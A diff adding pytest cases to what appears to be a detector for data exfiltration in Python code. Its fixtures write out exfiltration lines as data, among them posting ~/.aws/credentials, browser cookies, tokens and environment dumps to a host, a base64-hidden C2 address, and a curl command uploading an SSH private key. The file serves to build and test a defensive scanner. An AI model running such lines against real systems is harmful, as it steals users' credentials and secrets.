@@ -211,3 +211,57 @@ def test_sensitive_paths_are_sources(code: str, label: str) -> None:
 def test_ordinary_paths_are_not_sensitive(code: str) -> None:
     source = f"import os\nimport requests\nbase = 'docs'\nrequests.post('https://example.net', data={code})\n"
     assert all(not (set(p.sources) - {"env:CONFIG_FILE"}) for p in _points(source))
+
+
+@pytest.mark.parametrize(("code", "label"), [
+    ("subprocess.check_output('wmic csproduct get uuid', shell=True)", "host-info"),
+    ("subprocess.check_output(['whoami']).decode()", "host-info"),
+    ("subprocess.getoutput('printenv')", "environment"),
+    ("os.popen('cat ~/.aws/credentials').read()", "credential-file"),
+    ("subprocess.check_output(['cat', os.path.expanduser('~/.netrc')])", "credential-file"),
+    ("browser_cookie3.chrome()", "browser-store:api"),
+    ("netrc.netrc().authenticators('example.org')", "credential-file:api"),
+    ("{k: os.environ.get(k) for k in KEYS}", "env-secret:GITHUB_TOKEN"),
+])
+def test_command_outputs_and_credential_apis_are_sources(code: str, label: str) -> None:
+    source = (f"import os, subprocess, netrc, browser_cookie3\nimport requests\nKEYS = ('CI', 'GITHUB_TOKEN')\n"
+              f"requests.post('https://example.net', data={code})\n")
+    assert [p.sources for p in _points(source)] == [(label,)]
+
+
+@pytest.mark.parametrize("code", ["subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
+                                  "subprocess.getoutput('date')", "{k: os.environ.get(k) for k in ('CI', 'TERM')}"])
+def test_ordinary_command_outputs_are_not_sensitive(code: str) -> None:
+    source = f"import os, subprocess\nimport requests\nrequests.post('https://example.net', data={code})\n"
+    assert all(not [s for s in p.sources if not s.startswith("env:")] for p in _points(source))
+
+
+def test_destination_hidden_in_an_encoded_literal() -> None:
+    points = _points("import base64, requests\nC2 = base64.b64decode('aHR0cDovLzIwMy4wLjExMy45OS9j').decode()\n"
+                     "requests.post(C2, data='x')\n")
+    assert [(p.host, p.risk) for p in points] == [("203.0.113.99", "raw-ip")]
+
+
+@pytest.mark.parametrize(("code", "sources"), [
+    ("subprocess.run(['ssh', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'u@example.net', 'uptime'])", ()),
+    ("os.system(\"rsync -e 'ssh -i ~/.ssh/id_rsa' -a dist/ u@example.net:/srv/\")", ()),
+    ("os.system('curl -F f=@$HOME/.ssh/id_rsa https://example.net/u')", ("credential-file",)),
+    ("subprocess.run(['scp', os.path.expanduser('~/.ssh/id_rsa'), 'u@example.net:/k'])", ("credential-file",)),
+])
+def test_identity_files_of_network_tools_are_not_data(code: str, sources: tuple[str, ...]) -> None:
+    points = _points(f"import os, subprocess\n{code}\n")
+    assert [p.sources for p in points] == [sources]
+
+
+@pytest.mark.parametrize("code", ["subprocess.check_output(['env', 'LC_ALL=C', 'git', 'log'])",
+                                  "subprocess.getoutput('printenv HOME')",
+                                  "subprocess.check_output(['security', 'list-keychains'])"])
+def test_launchers_and_harmless_subcommands_are_not_sources(code: str) -> None:
+    source = f"import subprocess\nimport requests\nrequests.post('https://example.net', data={code})\n"
+    assert [p.sources for p in _points(source)] == [()]
+
+
+@pytest.mark.parametrize("code", ["{k: os.environ[k] for k in os.environ}", "[os.getenv(k) for k in os.environ.keys()]"])
+def test_lookups_over_every_variable_are_the_whole_environment(code: str) -> None:
+    source = f"import os\nimport requests\nrequests.post('https://example.net', data={code})\n"
+    assert [p.sources for p in _points(source)] == [("environment",)]
